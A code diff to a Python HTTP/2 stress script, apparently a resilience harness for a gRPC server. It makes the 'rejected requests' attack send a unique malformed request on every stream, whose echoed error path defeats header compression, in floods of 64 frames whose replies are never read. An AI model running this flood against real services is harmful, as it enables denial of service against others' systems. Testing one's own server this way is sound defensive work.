@@ -222,20 +222,32 @@ def attack_rst_provoking_data(path, seconds):
     return outcomes[0] if outcomes else "none"
 
 
+def hpack_length(n, prefix_bits=7, first=0):
+    """An HPACK integer (RFC 7541 §5.1) with `first`'s high bits."""
+    limit = (1 << prefix_bits) - 1
+    if n < limit:
+        return bytes([first | n])
+    return bytes([first | limit]) + varint(n - limit)
+
+
+def rejected_block(n):
+    """Request fields without the dynamic table: POST, http, a malformed :path the server echoes
+    back in its error (different for every request, so the answers cannot be indexed)."""
+    path = f"malformed-{n:010d}-".encode() + b"y" * 100
+    return (b"\x83\x86" + b"\x04" + hpack_length(len(path)) + path
+            + b"\x0f\x10" + hpack_length(16) + b"application/grpc" + b"\x00\x02te\x08trailers")
+
+
 def attack_rejected_requests(path, seconds):
-    """Requests for a method that does not exist, the answers never read."""
+    """Requests the server rejects (a malformed method path), the answers never read."""
     outcomes, deadline = [], time.time() + seconds
     while time.time() < deadline:
         conn = Conn(path)
-        for _ in range(2):   # HPACK indexes the fields: from the second block on, each is the same bytes
-            _, block = conn.headers("/nothing.v1.Nothing/Call", end_stream=True)
-            conn.send(block)
-        block = block[9:]
         state = "sent"
         while state == "sent" and time.time() < deadline:
             batch = b""
             for _ in range(64):
-                batch += frame(HEADERS, END_HEADERS | END_STREAM, conn.next_stream, block)
+                batch += frame(HEADERS, END_HEADERS | END_STREAM, conn.next_stream, rejected_block(conn.next_stream))
                 conn.next_stream += 2
             state = conn.send(batch, timeout=2)
         outcomes.append("backpressure" if state == "blocked" else (f"goaway:{conn.goaway(2)}" if state == "closed" else "sent"))
